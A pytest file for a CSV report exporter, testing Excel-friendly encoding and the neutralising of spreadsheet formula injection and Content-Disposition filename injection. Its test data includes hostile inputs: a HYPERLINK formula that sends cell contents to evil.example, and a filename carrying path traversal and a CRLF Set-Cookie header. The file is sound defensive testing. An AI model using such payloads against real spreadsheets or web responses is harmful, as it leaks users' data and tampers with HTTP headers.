"""Staff download CSV files that open correctly in Excel/WPS and never run what the public typed."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from urllib.parse import unquote

import pytest

from functions.reports.csv import content_disposition, safe_filename, to_csv


def read_back(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def only_cell(value) -> str:
    return read_back(to_csv(["内容"], [[value]]))[1][0]


def test_the_file_starts_with_a_byte_order_mark_so_excel_reads_it_as_utf8():
    assert to_csv(["编号"], [["1"]]).startswith(b"\xef\xbb\xbf")


def test_chinese_headers_and_text_round_trip_through_a_csv_reader():
    data = to_csv(["受理编号", "诉求内容"], [["XF20260601-0001", "反映村务公开不及时，请予核查。"]])
    assert read_back(data) == [["受理编号", "诉求内容"], ["XF20260601-0001", "反映村务公开不及时，请予核查。"]]


def test_every_line_ends_with_crlf():
    data = to_csv(["a", "b"], [["1", "2"], ["3", "4"]])
    assert data.count(b"\r\n") == 3 and data.replace(b"\r\n", b"").count(b"\n") == 0


@pytest.mark.parametrize("typed", [
    "=1+1", "+1", "-1+2", "@SUM(A1:A2)", "\t=1+1", "\rcmd", '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "  =1+1", "\u3000=1+1", "\n-2", "＝1+1", "－5"])
def test_text_a_spreadsheet_would_read_as_a_formula_is_shown_as_text(typed):
    assert only_cell(typed) == "'" + typed


def test_numbers_stay_numbers_while_the_same_characters_typed_as_text_are_neutralised():
    row = read_back(to_csv(["数", "文"], [[-5, "-5"], [-2.5, "-2.5"], [3, "+3"]]))[1:]
    assert row == [["-5", "'-5"], ["-2.5", "'-2.5"], ["3", "'+3"]]


@pytest.mark.parametrize("text", ["中文", "a=b", "1-2", "2026-06-01", "电子邮箱 a@b.cn", "", "'已带引号"])
def test_ordinary_text_is_left_exactly_as_typed(text):
    assert only_cell(text) == text


def test_newlines_quotes_and_commas_inside_a_cell_survive_a_round_trip():
    text = '第一行，含"引号", 和逗号\r\n第二行\n第三行'
    assert only_cell(text) == text


def test_missing_values_are_empty_dates_are_iso_and_yes_no_is_chinese():
    row = read_back(to_csv(["a", "b", "c", "d", "e"], [[
        None, dt.date(2026, 6, 1), dt.datetime(2026, 6, 1, 8, 30, tzinfo=dt.timezone(dt.timedelta(hours=8))),
        True, ["网站", "电视"]]]))[1]
    assert row == ["", "2026-06-01", "2026-06-01T08:30:00+08:00", "是", "网站、电视"]


def test_a_header_written_by_an_editor_is_neutralised_too():
    assert read_back(to_csv(["=题目", "序号"], []))[0] == ["'=题目", "序号"]


def test_a_chinese_file_name_reaches_the_browser_exactly_with_an_ascii_fallback():
    header = content_disposition("征求意见-jiandu-banfa.csv")
    assert header.isascii() and header.startswith("attachment; ")
    # RFC 6266: browsers use filename* (RFC 5987) when they understand it, else the plain filename.
    encoded = re.search(r"filename\*=UTF-8''([^;\s]+)", header).group(1)
    assert unquote(encoded, errors="strict") == "征求意见-jiandu-banfa.csv"
    assert re.search(r'filename="([^"]*)"', header).group(1) == "jiandu-banfa.csv"


def test_a_file_name_cannot_break_out_of_the_header_or_into_another_folder():
    params = safe_filename('../../机密"; x=1\r\nSet-Cookie: a=b.csv')
    assert params.isascii() and "\r" not in params and "\n" not in params and "/" not in params
    fallback = params.split('"')[1]
    assert fallback.endswith(".csv") and not fallback.startswith(".")
    assert params.count('"') == 2  # only the two around the fallback


def test_a_name_with_no_ascii_letters_still_gets_a_usable_fallback():
    assert safe_filename("调查结果.csv").startswith('filename="download.csv"; ')
